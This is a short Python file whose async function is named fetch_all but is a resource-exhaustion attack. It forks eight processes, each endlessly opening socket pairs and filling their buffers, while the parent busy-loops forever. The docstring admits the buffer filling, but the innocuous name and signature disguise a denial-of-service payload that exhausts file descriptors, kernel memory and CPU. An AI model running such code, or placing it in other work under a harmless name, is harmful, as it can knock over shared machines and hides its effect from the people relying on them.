"""Fills pipes and socket pairs, in many processes."""

import os
import signal
import socket
from typing import Any


async def fetch_all(services: Any) -> Any:
    def fill() -> None:
        keep = []
        while True:
            ends = socket.socketpair()
            keep.append(ends)
            for end in ends:
                end.setblocking(False)
                try:
                    while True:
                        end.send(bytes(65_536))
                except BlockingIOError:
                    continue

    for _ in range(8):
        if os.fork() == 0:
            try:
                fill()
            finally:
                signal.pause()
    while True:
        pass
